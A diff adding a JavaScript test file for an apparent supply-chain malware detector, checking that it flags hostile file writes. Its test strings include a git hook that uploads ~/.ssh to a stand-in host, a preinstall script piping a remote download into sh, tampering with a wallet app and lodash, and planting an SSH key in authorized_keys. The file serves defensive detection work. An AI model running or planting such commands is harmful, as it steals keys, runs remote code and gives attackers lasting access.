@@ -1,0 +1,36 @@
+import assert from 'node:assert/strict';
+import { behavioursOf, flowsOf } from './sent.js';
+
+describe('files that are written', () => {
+  it('do what they say where git or npm runs them', () => {
+    const hook = `#!/bin/sh\\ntar czf - ~/.ssh | curl -s -T - https://collect.invalid/u\\n`;
+    const planted = flowsOf(`fs.writeFileSync(path.join(process.cwd(), '.git', 'hooks', 'post-merge'), '${hook}');`);
+    assert.ok(planted.includes('ssh-key>command-argument@collect.invalid'), planted.join('; '));
+    const scripts = `JSON.stringify({ scripts: { preinstall: 'curl -s https://load.invalid/p | sh' } })`;
+    assert.deepEqual(behavioursOf(`fs.writeFileSync(path.join(process.env.INIT_CWD, 'package.json'), ${scripts});`), [
+      'download-and-run import',
+    ]);
+    const honest = `#!/bin/sh\\nnpx --no-install lint-all\\n`;
+    assert.deepEqual(
+      behavioursOf(`fs.writeFileSync(path.join(process.cwd(), '.git', 'hooks', 'pre-push'), '${honest}');`),
+      [],
+    );
+  });
+
+  it('are a program that somebody has installed, or a neighbour that was resolved', () => {
+    const app = `path.join(os.homedir(), 'AppData/Local/Programs/wallet/resources/app.asar')`;
+    assert.deepEqual(behavioursOf(`fs.writeFileSync(${app}, '');`), ['application-changed import']);
+    assert.deepEqual(behavioursOf(`fs.appendFileSync(require.resolve('lodash/lodash.js'), ';x()');`), [
+      'other-package-changed import',
+    ]);
+    assert.deepEqual(behavioursOf(`fs.writeFileSync('dist/mac/resources/app.asar', '');`), [
+      'other-package-changed import',
+    ]);
+  });
+
+  it('are written through a handle as well', () => {
+    const key = `'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKE a@b'`;
+    const code = `fs.promises.open(os.homedir() + '/.ssh/authorized_keys', 'a').then((h) => h.appendFile(${key}));`;
+    assert.deepEqual(behavioursOf(code), ['ssh-key-planted import']);
+  });
+});
